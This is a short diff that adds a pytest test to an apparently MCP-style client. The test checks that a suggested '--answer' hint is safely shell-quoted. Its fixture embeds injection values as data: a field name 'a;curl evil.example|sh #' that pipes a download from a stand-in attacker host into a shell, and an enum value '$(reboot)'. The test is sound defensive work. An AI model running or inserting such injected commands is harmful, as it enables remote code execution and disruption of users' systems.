@@ -145,3 +145,11 @@ def _write_server(tmp_path: Path) -> Path:
         "    return str(await ctx.elicit('Which row?', int))\n"
     )
     return file
+
+
+def test_a_hint_with_names_of_a_server_is_safe_to_copy_into_a_shell(monkeypatch: pytest.MonkeyPatch) -> None:
+    monkeypatch.setattr(sys, "stdin", io.StringIO(""))
+    form = {"properties": {"a;curl evil.example|sh #": {"enum": ["once", "$(reboot)"]}}}
+    with pytest.raises(InputRequestError) as told:
+        AnswerProvider({}, lambda: None).fill_form(ElicitRequestParams(message="?", requested_schema=form))
+    assert told.value.hint == "--answer 'a;curl evil.example|sh #'=once|'$(reboot)'"
